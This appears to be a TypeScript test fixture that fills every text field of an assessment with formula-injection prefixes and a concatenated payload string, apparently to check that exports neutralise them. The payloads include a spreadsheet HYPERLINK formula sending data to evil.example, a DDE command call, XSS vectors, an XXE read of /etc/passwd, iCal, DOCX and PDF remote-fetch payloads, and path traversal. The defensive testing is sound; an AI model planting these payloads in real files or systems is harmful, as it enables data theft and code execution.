import type { Assessment } from '../../../src/core/assessment.ts';
import { everyField } from './every-field.ts';

/** How a text begins that wants to be run by a spreadsheet, with all that some program or other skips. */
const starts = [
  ...['=', '+', '-', '@', '\t=', '\r=', '\n@', ' =', '\u0000=', '\u200b=', '\ufeff+', '\u202e-'],
  ...['＝', '＋', '－', '＠', "'=", '"=', ';=', ',='],
];

/** What a text can hold that wants to be more than a text, in one format or another. */
const wishes = [
  `HYPERLINK("https://evil.example/?"&A1,"x")|cmd|'/c calc'!A1`,
  `</script><script>globalThis.pwned=1</script><img src=x onerror=alert(1)><svg/onload=alert(1)>`,
  `" onmouseover="alert(1)" style="background:url(https://evil.example/p)`,
  `<a href="javascript:alert(1)">x</a><iframe src="data:text/html,x"></iframe>`,
  `]]><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;&#0;_x0000_`,
  `\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:https://evil.example/x.exe\r\n X:`,
  `</w:t></w:r><w:fldSimple w:instr="INCLUDETEXT https://evil.example"/><w:r><w:t>`,
  `) >> /AA << /O << /S /JavaScript /JS (app.alert(1)) >> >> /URI (https://evil.example`,
  `../../../etc/passwd\u0000.exe C:\\con.txt %2e%2e%2f`,
  `\u202egnp.exe\u2066\u200d\u{e0041}\ud800\u001b[31m\u0007\u2028\u2029`,
].join(' ');

/** As many as it takes for every field to have begun with every one of them. */
export const rounds = starts.length;

/** An assessment in which every text that somebody can type, and every name, wants to be more than that. */
export function hostileAssessment(round: number): Assessment {
  const { assessment, leaves } = everyField();
  const copy = structuredClone(assessment);
  const texts = leaves.filter(({ value }) => /^Words \d/.test(String(value)));
  texts.forEach(({ path, value }, index) => {
    let at = copy as unknown as Record<string, unknown>;
    for (const key of path.slice(0, -1)) at = at[key] as Record<string, unknown>;
    // Without its own words two fields would be taken for one.
    at[path.at(-1) as string] = `${starts[(index + round) % starts.length]}${wishes} ${value}`;
  });
  return copy;
}

/** Days and choices as they are, so that a test knows that something hostile went in. */
export const sign = 'evil.example';
